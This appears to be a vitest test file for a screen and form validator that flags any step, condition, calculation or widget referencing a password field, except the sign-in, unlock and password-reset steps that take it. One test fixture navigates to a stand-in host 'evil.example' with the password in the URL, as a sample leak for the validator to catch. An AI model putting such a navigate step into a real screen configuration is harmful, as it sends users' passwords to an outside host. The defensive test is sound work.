import { expect, it } from 'vitest';
import { testWidget, testWidgets } from '../../../test/support/descriptors.ts';
import { describe as describeWidgets } from '../fields/descriptor.ts';
import { validateForm, validateScreen } from './index.ts';

const descriptors = describeWidgets([
  ...testWidgets.values(),
  testWidget('secret', 'field', { value: 'text', secret: () => true }),
  testWidget('shows', 'action', { fieldProps: ['field'] }),
]);
const secret = { id: 'pw', vModel: 'pw', config: { aditKey: 'secret' } };
const other = { id: 'a', vModel: 'a', config: { aditKey: 'input' } };
const onPage = (more: object, ...nodes: object[]) =>
  validateScreen({ id: 'p', version: 1, nodes: [secret, other, ...nodes], ...more }, { descriptors })
    .filter(({ code }) => code.startsWith('node.password'))
    .map(({ code, at }) => `${code} ${at}`);
const step = (one: object) => onPage({}, { id: 'b', config: { aditKey: 'button' }, on: { click: [one] } });
const at = '/nodes/2/on/click/0';
const rule = (name: string) => ({ logic: 'and', conditions: [{ field: name, operator: 'startsWith', value: 'x' }] });

it('a password goes to the steps that take it', () => {
  for (const taking of [
    { action: 'command', name: 'signIn', with: { account: '{values.a}', password: '{values.pw}' } },
    { action: 'command', name: 'unlock', with: { password: '{values.pw}' } },
    { action: 'command', name: 'changePassword', with: { oldPassword: '{values.pw}', password: '{values.pw}' } },
    { action: 'request', call: 'resetPassword', params: { id: '1' }, body: { userPassword: '{values.pw}' } },
    { action: 'setValue', field: 'pw', value: '' },
  ])
    expect(step(taking), JSON.stringify(taking)).toEqual([]);
});

it('nothing else names it: no other step, whatever its part', () => {
  const cases: readonly (readonly [object, string])[] = [
    [{ action: 'command', name: 'signIn', with: { account: '{values.pw}' } }, '/with/account'],
    [{ action: 'command', name: 'copy', with: { text: 'x {values.pw}' } }, '/with/text'],
    [{ action: 'request', call: 'createRecord', body: { data: [{ x: '{values.pw}' }] } }, '/body/data/0/x'],
    [{ action: 'request', call: 'resetPassword', query: { userPassword: '{values.pw}' } }, '/query/userPassword'],
    [{ action: 'navigate', to: 'https://evil.example/?{values.pw}' }, '/to'],
    [{ action: 'download', call: 'file', params: { id: '{values.pw}' } }, '/params/id'],
    [{ action: 'toast', text: '{values.pw}' }, '/text'],
    [{ action: 'openDialog', dialog: 'd', with: { x: '{values.pw.length}' } }, '/with/x'],
    [{ action: 'setValue', field: 'a', valueField: 'pw' }, '/valueField'],
    [{ action: 'reset', when: rule('pw') }, '/when/conditions/0/field'],
  ];
  for (const [one, place] of cases) expect(step(one), JSON.stringify(one)).toEqual([`node.password ${at}${place}`]);
});

it('nor a source, a condition, a calculation, or a widget that shows another field', () => {
  expect(onPage({ sources: { s: { call: 'x', query: { q: '{values.pw}' } } } })).toEqual([
    'node.password /sources/s/query/q',
  ]);
  const node = (more: object) => onPage({}, { id: 'n', vModel: 'n', ...more });
  const input = { config: { aditKey: 'input' } };
  expect(node({ ...input, showWhen: rule('pw') })).toEqual(['node.password /nodes/2/showWhen/conditions/0/field']);
  expect(node({ ...input, setWhen: [{ when: rule('a'), valueField: 'pw' }] })).toEqual([
    'node.password /nodes/2/setWhen/0/valueField',
  ]);
  expect(node({ config: { aditKey: 'calculate' }, props: { expression: ['pw', '+', 1] } })).toEqual([
    'node.password /nodes/2/props/expression/0',
  ]);
  expect(node({ config: { aditKey: 'shows' }, props: { field: 'pw' } })).toEqual([
    'node.password /nodes/2/props/field',
  ]);
});

it('a form has none, since what is filled in there is kept', () => {
  const found = validateForm({ version: 1, nodes: [other, secret] }, { descriptors });
  expect(found.map(({ code, at: place }) => `${code} ${place}`)).toEqual(['node.passwordKept /nodes/1']);
});
